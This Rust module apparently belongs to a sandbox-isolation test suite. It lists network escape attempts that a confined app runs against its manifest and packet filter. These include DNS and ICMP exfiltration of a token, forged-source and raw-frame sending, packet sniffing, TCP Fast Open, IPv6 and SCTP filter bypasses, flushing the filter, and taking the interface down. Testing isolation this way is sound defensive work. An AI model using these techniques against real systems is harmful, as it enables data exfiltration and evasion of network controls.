//! Out into the network, to other apps, and against the packet filter. The manifest grants one port of one machine.

mod raw;
mod tables;

use std::io::Read;
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::time::Duration;

use libc::{AF_INET, AF_INET6, SOCK_DGRAM, SOCK_STREAM, SYS_sendto, SYS_socket};
use nix::errno::Errno;

use super::ipc::answer;
use crate::attack::claim_from;
use crate::call::{Outcome, at, call, errno};
use crate::catalogue::Attack;
use crate::order::Order;
use crate::victim;
use crate::witness::scene::Scene;
use crate::witness::scenes::{LEAVES, VICTIM_READ};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "udp-to-other-port",
        goal: "Sends a datagram to a port that its manifest doesn't list",
        scene: LEAVES,
        run: |order| send(order, [10, 0, 2, 2], 7009),
    },
    Attack {
        name: "udp-to-other-machine",
        goal: "Sends a datagram to a machine that its manifest doesn't list",
        scene: LEAVES,
        run: |order| send(order, [192, 0, 2, 77], 7001),
    },
    Attack {
        name: "tcp-to-other-port",
        goal: "Connects to a port that its manifest doesn't list",
        scene: LEAVES,
        run: |order| connect(target(order), 7009),
    },
    Attack {
        name: "tcp-to-other-machine",
        goal: "Connects to a machine that its manifest doesn't list, at the port that it lists of another",
        scene: LEAVES,
        run: |order| connect(target(order), 7001),
    },
    Attack {
        name: "tcp-fast-open",
        goal: "Connects by sending, which is not the call that a filter of connections looks at",
        scene: LEAVES,
        run: fast_open,
    },
    Attack {
        name: "dns-exfiltration",
        goal: "Carries a secret out as a name to be resolved",
        scene: LEAVES,
        run: dns,
    },
    Attack {
        name: "ping-exfiltration",
        goal: "Carries a secret out in an ICMP echo",
        scene: LEAVES,
        run: raw::ping,
    },
    Attack {
        name: "forged-source",
        goal: "Sends a datagram with the address of another",
        scene: LEAVES,
        run: raw::forged,
    },
    Attack {
        name: "broadcast",
        goal: "Sends a datagram to everybody on the local network",
        scene: LEAVES,
        run: |order| send(order, [10, 0, 2, 255], 7001),
    },
    Attack {
        name: "raw-frame",
        goal: "Sends a frame of its own making from the device's network card",
        scene: LEAVES,
        run: raw::raw_frame,
    },
    Attack {
        name: "sniffing",
        goal: "Reads others' packets out of a ring that the kernel shares with it",
        scene: raw::SNIFFED,
        run: raw::sniff,
    },
    Attack {
        name: "ipv6",
        goal: "Sends a datagram over IPv6, past rules for IPv4",
        scene: LEAVES,
        run: ipv6,
    },
    Attack {
        name: "sctp",
        goal: "Sends over SCTP, past rules for TCP and UDP",
        scene: LEAVES,
        run: |order| {
            let socket = call(SYS_socket, &[AF_INET as usize, SOCK_STREAM as usize, 132])?;
            let address = address(target(order), 7001);
            // It blocks until somebody answers; the packet leaves at once.
            let _ = call(libc::SYS_fcntl, &[socket, libc::F_SETFL as usize, libc::O_NONBLOCK as usize]);
            let _ = call(libc::SYS_connect, &[socket, at(&address), size_of_val(&address)]);
            pause();
            done()
        },
    },
    Attack {
        name: "other-app-over-tcp",
        goal: "Reads another app's secret over TCP, at the port that this one serves to others",
        scene: VICTIM_READ,
        run: |order| {
            let address = SocketAddr::from((victim_address(order), victim::PORT));
            let stream = TcpStream::connect_timeout(&address, Duration::from_millis(1500));
            let stream = stream.map_err(|error| errno(&error))?;
            let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
            answer(order, stream)
        },
    },
    Attack {
        name: "other-app-over-udp",
        goal: "Reads another app's secret over UDP",
        scene: VICTIM_READ,
        run: |order| {
            let socket = UdpSocket::bind(("0.0.0.0", 0)).map_err(|error| errno(&error))?;
            let _ = socket.set_read_timeout(Some(Duration::from_secs(1)));
            let sent = socket.send_to(b"?", (victim_address(order), victim::PORT));
            sent.map_err(|error| errno(&error))?;
            let mut bytes = [0; 256];
            let length = socket.recv(&mut bytes).map_err(|error| errno(&error))?;
            claim_from(order, bytes.get(..length).unwrap_or_default())
        },
    },
    Attack {
        name: "undeclared-listener",
        goal: "Serves on a port of the device that its manifest doesn't list",
        scene: LISTENS,
        run: |order| {
            let listener = TcpListener::bind(("0.0.0.0", 7099)).map_err(|error| errno(&error))?;
            let until = std::time::Instant::now() + Duration::from_secs(2);
            listener.set_nonblocking(true).map_err(|error| errno(&error))?;
            while std::time::Instant::now() < until {
                if let Ok((mut peer, _)) = listener.accept() {
                    let _ = std::io::Write::write_all(&mut peer, order.token.as_bytes());
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            done()
        },
    },
    Attack {
        name: "route-changed",
        goal: "Gives the device another route",
        scene: Scene::new("the device has a route that the attacker made", |_, _| {
            std::fs::read_to_string("/proc/net/route").unwrap_or_default().contains(tables::ROUTE)
        })
        .restore(|_, _| {
            let _ = tables::route(25);
        }),
        run: |_| tables::route(24),
    },
    Attack {
        name: "packet-filter-flushed",
        goal: "Empties the packet filter, and then sends what it forbids",
        scene: LEAVES,
        run: |order| {
            tables::flush_filter()?;
            send(order, [192, 0, 2, 78], 7001)
        },
    },
    Attack {
        name: "interface-down",
        goal: "Switches the device's network card off",
        scene: Scene::new("the network card is down", |_, _| {
            std::fs::read_to_string("/sys/class/net/eth0/flags").is_ok_and(|flags| !is_up(&flags))
        })
        .restore(|_, _| {
            if std::fs::read_to_string("/sys/class/net/eth0/flags").is_ok_and(|flags| !is_up(&flags)) {
                let _ = set_interface(libc::IFF_UP as i16);
            }
        }),
        run: |_| set_interface(0),
    },
];

/// It did what it could; who sees it is not on the device.
fn done() -> Outcome {
    Err(Errno::UnknownErrno)
}

fn pause() {
    std::thread::sleep(Duration::from_millis(150));
}

/// An address of the network for tests (RFC 2544) that only this attack sends to.
fn target(order: &Order) -> [u8; 4] {
    let byte = |at: usize| u8::from_str_radix(order.token.get(at..at + 2).unwrap_or("1"), 16).unwrap_or(1);
    [198, 18, byte(0), byte(2)]
}

fn victim_address(order: &Order) -> Ipv4Addr {
    order.fact("victim-address").parse().unwrap_or(Ipv4Addr::UNSPECIFIED)
}

fn address(host: [u8; 4], port: u16) -> libc::sockaddr_in {
    libc::sockaddr_in {
        sin_family: AF_INET as libc::sa_family_t,
        sin_port: port.to_be(),
        sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes(host) },
        sin_zero: [0; 8],
    }
}

fn send(order: &Order, host: [u8; 4], port: u16) -> Outcome {
    let socket = UdpSocket::bind(("0.0.0.0", 0)).map_err(|error| errno(&error))?;
    let _ = socket.set_broadcast(true);
    for _ in 0..2 {
        socket
            .send_to(order.token.as_bytes(), (Ipv4Addr::from(host), port))
            .map_err(|error| errno(&error))?;
        // The first waits for an address of the next machine.
        pause();
    }
    done()
}

fn connect(host: [u8; 4], port: u16) -> Outcome {
    let address = SocketAddr::from((Ipv4Addr::from(host), port));
    match TcpStream::connect_timeout(&address, Duration::from_millis(400)) {
        Err(error) if error.raw_os_error().is_some() => Err(errno(&error)),
        _ => done(),
    }
}

fn fast_open(order: &Order) -> Outcome {
    let socket = call(SYS_socket, &[AF_INET as usize, SOCK_STREAM as usize, 0])?;
    let _ = call(libc::SYS_fcntl, &[socket, libc::F_SETFL as usize, libc::O_NONBLOCK as usize]);
    let address = address(target(order), 7009);
    let flags = libc::MSG_FASTOPEN as usize;
    let text = order.token.as_bytes();
    match call(
        SYS_sendto,
        &[socket, text.as_ptr() as usize, text.len(), flags, at(&address), size_of_val(&address)],
    ) {
        Ok(_) | Err(Errno::EINPROGRESS) => {
            pause();
            done()
        }
        Err(error) => Err(error),
    }
}

/// A question for the name `<token>.example.com`, to the resolver that it has and to the one that the device has.
fn dns(order: &Order) -> Outcome {
    let mut question = vec![0x4e, 0x61, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in [order.token.as_str(), "example", "com"] {
        question.push(label.len() as u8);
        question.extend(label.as_bytes());
    }
    question.extend([0, 0, 1, 0, 1]);
    let socket = UdpSocket::bind(("0.0.0.0", 0)).map_err(|error| errno(&error))?;
    let mut last = done();
    for server in [[100, 115, 92, 1], [10, 0, 2, 3]] {
        for _ in 0..2 {
            if let Err(error) = socket.send_to(&question, (Ipv4Addr::from(server), 53)) {
                last = Err(errno(&error));
            }
            pause();
        }
    }
    last
}

fn ipv6(order: &Order) -> Outcome {
    let socket = call(SYS_socket, &[AF_INET6 as usize, SOCK_DGRAM as usize, 0])?;
    let mut all = [0u8; 16];
    all[0] = 0xff;
    all[1] = 2;
    all[15] = 1;
    let address = libc::sockaddr_in6 {
        sin6_family: AF_INET6 as u16,
        sin6_port: 7001u16.to_be(),
        sin6_flowinfo: 0,
        sin6_addr: libc::in6_addr { s6_addr: all },
        sin6_scope_id: index_of_card().or_else(|_| only_interface())? as u32,
    };
    let text = order.token.as_bytes();
    for _ in 0..3 {
        call(
            SYS_sendto,
            &[socket, text.as_ptr() as usize, text.len(), 0, at(&address), size_of_val(&address)],
        )?;
        pause();
    }
    done()
}

/// The app's own interface, behind the loopback.
fn only_interface() -> Result<i32, Errno> {
    Ok(2)
}

/// The witness connects over the loopback of the OS.
const LISTENS: Scene =
    Scene::new("whoever connects to the port of the device hears the attacker", |world, _| {
        let address = SocketAddr::from(([127, 0, 0, 1], 7099));
        let Ok(mut stream) = TcpStream::connect_timeout(&address, Duration::from_millis(200)) else {
            return false;
        };
        let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
        let mut text = String::new();
        let _ = stream.read_to_string(&mut text);
        text == world.order.token
    });

fn is_up(flags: &str) -> bool {
    u32::from_str_radix(flags.trim().trim_start_matches("0x"), 16).is_ok_and(|flags| flags & 1 == 1)
}

/// Sets the flags of the card (`SIOCSIFFLAGS`, netdevice(7)).
fn set_interface(flags: i16) -> Outcome {
    let socket = call(SYS_socket, &[AF_INET as usize, SOCK_DGRAM as usize, 0])?;
    let mut request = [0u8; 40];
    request[..4].copy_from_slice(b"eth0");
    request[16..18].copy_from_slice(&flags.to_ne_bytes());
    super::files::ioctl(socket, libc::SIOCSIFFLAGS as usize, at(&request)).map(drop)
}

fn index_of_card() -> Result<i32, Errno> {
    // SAFETY: the name ends with a zero byte.
    let index = unsafe { libc::if_nametoindex(c"eth0".as_ptr()) };
    if index == 0 { Err(Errno::ENODEV) } else { Ok(index as i32) }
}
